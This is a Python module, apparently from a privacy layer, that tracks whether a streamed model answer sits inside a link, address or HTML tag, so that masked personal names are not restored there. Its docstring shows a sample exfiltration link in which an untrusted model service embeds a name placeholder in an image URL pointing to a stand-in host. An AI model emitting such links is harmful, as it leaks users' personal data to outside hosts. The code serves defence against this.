"""Places where restored text would leave the user's machine: addresses, link targets, tags of HTML.

A model service that is not trusted can ask for ``![](https://its.host/?q=<PERSON_...>)``; whoever renders the answer
would send the name there. So nothing is restored inside of a link, unless that very link stood in what was asked. An
answer may come in several texts, which a program may join again: it is read as one. Only white space ends an address,
as for readers of CommonMark with GitHub's autolinks. Source: CommonMark 0.31, sections 2.4, 2.5 and 6.3 to 6.6; HTML,
section 13.2.5.
"""

from __future__ import annotations

import html
import re

LONGEST = 2048  # characters of an address that is compared with what was asked
_CONTEXT = 256  # characters before new ones that may be the beginning of an address with them
_END = "\0"  # of a string in JSON
_ADDRESS = re.compile(
    r"(?<![a-z0-9])[a-z][a-z0-9+.\-]{0,20}://|(?<![:\w/])//|(?<![a-z0-9])www\.|url\("
    r"|(?<![a-z0-9])(?:data|javascript|vbscript|mailto|tel|sms|magnet|file|blob|https?|ftp):"
    r"|(?<![a-z0-9\-])[a-z0-9\-]{1,63}\.[a-z]{2,24}(?::\d{1,5})?[/?#]",
    re.IGNORECASE,
)
_WHOLE_HOST = re.compile(r"^[^/]*//[^/?#]+[/?#]|^[^/?#:]+[/?#]")
_MARKDOWN_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_JSON_PIECE = re.compile(r'\\u[0-9a-fA-F]{4}|\\[^u]|[^\\"]+|"|\\u?[0-9a-fA-F]{0,3}\Z|\\', re.DOTALL)
_JSON_CUT = re.compile(r"\\(?:u[0-9a-fA-F]{0,3})?\Z")
_PLAIN = {"n": "\n", "r": "\n", "t": " ", "b": " ", "f": " "}
_RUNS = re.compile(r"[\s\0]+|[^\s\0]+")
_SIGNS = frozenset("]<>")


class Links:
    """Reads an answer, however it is cut, and says whether its end stands inside of a link."""

    __slots__ = (
        "_address", "_angle", "_cut", "_equals", "_last", "_lines", "_name", "_quote", "_start", "_target", "_word",
    )  # fmt: skip

    def __init__(self) -> None:
        self._cut = ""  # an escape of JSON that has not ended
        self._word = ""  # since the last white space
        self._address = False  # whether one is in it
        self._start: int | None = None  # where, if it is written plainly
        self._target = ""  # "before" one of Markdown's, or "in" it
        self._angle = False  # between angle brackets
        self._lines = 0  # line ends before the target
        self._name: str | None = None  # of a tag of HTML, as far as it came; "" behind its bracket, "in" once it is one
        self._quote = self._last = ""
        self._equals = False

    def feed(self, text: str, *, escaped: bool = False) -> None:
        """Read on; ``escaped`` where it is JSON, in which a quotation mark ends a string and escapes are read."""
        for run in _RUNS.findall(self._unescaped(text) if escaped else text):
            if run[0].isspace() or run[0] == _END:
                self._space(run)
            else:
                self._read(run)
            if self._name is not None or self._target or self._last in _SIGNS or not _SIGNS.isdisjoint(run):
                for symbol in run:
                    self._sign(symbol)
            self._last = run[-1]

    def feed_name(self, sent: str) -> None:
        """Read on in a name of somebody's, whose brackets are no signs."""
        self._read(sent)
        self._target = self._target and "in"
        self._name = "in" if self._name == "in" else None
        self._last = "N"

    def link(self) -> str | None:
        """None outside of a link; its address so far, or nothing where it has none that can be compared."""
        if self._address:
            return "" if self._start is None else self._word[self._start :]
        return "" if self._target or self._angle or self._name == "in" else None

    def _unescaped(self, text: str) -> str:
        text = self._cut + text
        cut = _JSON_CUT.search(text)
        backslashes = 0 if cut is None else len(text[: cut.start() + 1]) - len(text[: cut.start() + 1].rstrip("\\"))
        self._cut = cut[0] if cut is not None and backslashes % 2 else ""
        pieces = _JSON_PIECE.findall(text[: len(text) - len(self._cut)])
        return "".join(_END if piece == '"' else _character(piece) if piece[0] == "\\" else piece for piece in pieces)

    def _space(self, run: str) -> None:
        self._word, self._address, self._start = "", False, None
        self._lines += run.count("\n")
        if self._target == "in" or self._lines > 1 or _END in run:
            self._target = ""
        if "\n" in run or _END in run:
            self._angle = False
        if _END in run:
            self._name, self._quote = None, ""

    def _read(self, run: str) -> None:
        fresh = len(self._word)
        self._word += run
        if not self._address:
            self._find_address(fresh)
        if len(self._word) > LONGEST:
            self._word, self._start = self._word[-_CONTEXT:], None

    def _find_address(self, fresh: int) -> None:
        first = max(0, fresh - _CONTEXT)
        shown = self._word[first:]
        read = html.unescape(_MARKDOWN_ESCAPE.sub(r"\1", shown)) if "\\" in shown or "&" in shown else shown
        for found in _ADDRESS.finditer(read):
            if read != shown or first + found.end() > fresh:
                self._address = True
                self._start = first + found.start() if read == shown else None
                return

    def _sign(self, symbol: str) -> None:
        """Read one character for what it means in Markdown and HTML."""
        if self._target == "before" and not symbol.isspace() and symbol != _END:
            self._target, self._angle = "in", symbol == "<"
        if self._name == "in":
            self._in_tag(symbol)
        elif self._name is not None:
            self._name_tag(symbol)
        elif symbol == "<":
            self._name = ""
        elif symbol == ">":
            self._angle = False
        elif self._last == "]" and symbol in "(:":
            self._target, self._lines = "before", 0
        self._last = symbol

    def _name_tag(self, symbol: str) -> None:
        name = self._name or ""
        if not name and (symbol in "/!?" or (symbol.isascii() and symbol.isalpha())):
            self._name = symbol
        elif name and (symbol.isspace() or symbol == "/" or name[0] in "!?"):
            self._name, self._quote, self._equals = "in", "", False
        elif name and symbol.isascii() and (symbol.isalnum() or symbol == "-"):
            self._name = (name + symbol)[:80]
        else:
            self._name = "" if symbol == "<" else None

    def _in_tag(self, symbol: str) -> None:
        if self._quote:
            self._quote = "" if symbol == self._quote else self._quote
        elif symbol == ">":
            self._name = None
        elif symbol in "'\"" and self._equals:
            self._quote = symbol
        self._equals = symbol == "=" or (self._equals and symbol.isspace())


def has_whole_host(link: str) -> bool:
    """Whether the host of a link is complete, so that nothing behind can change where it leads."""
    return _WHOLE_HOST.match(link) is not None


def _character(escape: str) -> str:
    """What an escape of JSON stands for."""
    if escape[1:2] == "u" and len(escape) == 6:
        return chr(int(escape[2:], 16))
    return _PLAIN.get(escape[1:], escape[1:])
